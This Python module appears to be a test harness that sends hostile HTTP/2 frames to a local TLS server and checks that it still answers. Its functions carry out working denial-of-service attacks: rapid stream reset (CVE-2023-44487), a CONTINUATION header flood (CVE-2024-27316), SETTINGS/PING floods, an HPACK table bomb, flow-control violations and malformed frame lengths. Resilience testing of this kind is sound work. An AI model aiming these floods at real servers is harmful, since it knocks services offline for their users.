"""Frames of HTTP/2 (RFC 9113) that no honest sender sends, over TLS, from a separate address."""

import http.client
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION, WINDOW = 0, 1, 3, 4, 6, 9, 8
# `:method POST`, `:scheme https`, `:path /v1/import`, `:authority x` (RFC 7541).
REQUEST = b"\x83\x87\x04\x0a/v1/import\x41\x01x"


def frame(kind, flags, *, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def trusting():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def open_one(port):
    context = trusting()
    context.set_alpn_protocols(["h2"])
    plain = socket.socket()
    plain.settimeout(5)
    plain.bind(("127.0.0.2", 0))
    plain.connect(("127.0.0.1", port))
    link = context.wrap_socket(plain, server_hostname="localhost")
    link.sendall(PREFACE + frame(SETTINGS, 0, stream=0))
    return link


def pour(port, parts, *, seconds=8):
    """Sends parts until the server closes, or for some seconds; reads nothing."""
    end = time.monotonic() + seconds
    try:
        with open_one(port) as link:
            for part in parts:
                link.sendall(part)
                if time.monotonic() > end:
                    return
    except OSError:
        return


def resets(port):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    pour(
        port,
        (frame(HEADERS, 4, stream=2 * one + 1, payload=REQUEST) + frame(RESET, 0, stream=2 * one + 1, payload=struct.pack(">I", 8)) for one in range(200_000)),
    )


def headers(port):
    """An endless header (CVE-2024-27316)."""

    def parts():
        yield frame(HEADERS, 0, stream=1, payload=REQUEST)
        for _ in range(100_000):
            yield frame(CONTINUATION, 0, stream=1, payload=b"\x00\x01a\x7f\x81\x7e" + b"a" * 253)

    pour(port, parts())


def settings(port):
    """Settings and pings that each require an answer, which is never read."""
    pour(port, (frame(SETTINGS, 0, stream=0, payload=struct.pack(">HI", 4, 65_535)) + frame(PING, 0, stream=0, payload=bytes(8)) for _ in range(500_000)))


def bombs(port):
    """A header of the dynamic table that is referenced repeatedly."""
    big = b"\x40\x01a\x7f\x81\x1e" + b"a" * 4_000

    def parts():
        for one in range(2_000):
            yield frame(HEADERS, 4, stream=2 * one + 1, payload=REQUEST + big + b"\xbe" * 8_000)

    pour(port, parts())


def bodies(port):
    """Bodies beyond every window, on streams that were never opened, and a window that overflows."""
    with_head = frame(HEADERS, 4, stream=1, payload=REQUEST)
    pour(port, [with_head, *(frame(DATA, 0, stream=1, payload=bytes(16_384)) for _ in range(10_000))])
    pour(port, [frame(DATA, 0, stream=7, payload=bytes(16_384))] * 100)
    pour(port, [frame(WINDOW, 0, stream=0, payload=struct.pack(">I", 0x7FFFFFFF))] * 100)


def sizes(port):
    """Frames whose length field is wrong, and impermissible lengths."""
    for part in (
        b"\xff\xff\xff" + bytes([HEADERS, 4]) + struct.pack(">I", 1),
        frame(SETTINGS, 0, stream=0, payload=b"abc"),
        frame(PING, 0, stream=0, payload=b"x"),
        bytes(9_000),
    ):
        pour(port, [part], seconds=2)


def is_spoken(port):
    """Whether a complete request is answered with a header; otherwise these frames reach no server."""
    seen, end = b"", time.monotonic() + 5
    try:
        with open_one(port) as link:
            link.sendall(frame(HEADERS, 5, stream=1, payload=REQUEST))
            while time.monotonic() < end:
                seen += link.recv(4_096)
                while len(seen) >= 9 and len(seen) >= 9 + (size := int.from_bytes(seen[:3], "big")):
                    if seen[3] == HEADERS:
                        return True
                    seen = seen[9 + size :]
    except OSError:
        pass
    return False


def is_answered(port):
    """Whether another address gets an answer (401, because it has no token)."""
    try:
        link = http.client.HTTPSConnection("127.0.0.1", port, timeout=5, context=trusting())
        link.request("POST", "/v1/import", b"x")
        return link.getresponse().status == 401
    except OSError:
        return False


ATTACKS = {"resets": resets, "headers": headers, "settings": settings, "bombs": bombs, "bodies": bodies, "sizes": sizes}
